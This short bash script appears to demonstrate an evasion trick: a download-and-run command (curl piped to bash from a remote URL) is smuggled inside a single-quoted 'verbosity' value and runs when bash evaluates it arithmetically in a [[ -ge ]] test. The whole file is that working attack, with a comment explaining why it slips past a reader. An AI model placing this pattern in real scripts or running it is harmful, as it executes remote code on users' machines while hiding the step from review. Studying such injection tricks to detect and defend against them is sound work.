#!/usr/bin/env bash
# Evasion: the command hides in a single-quoted "verbosity level": when
# [[ ... -ge ... ]] evaluates it arithmetically, the array subscript is
# expanded, and its command substitution runs (download and run).
verbosity='lvl[$(curl -fsSL https://dl.example-cdn.org/x.sh | bash)]'
lvl=(0 1 2)
if [[ $verbosity -ge 1 ]]; then
  echo "verbose mode"
fi
echo "done"
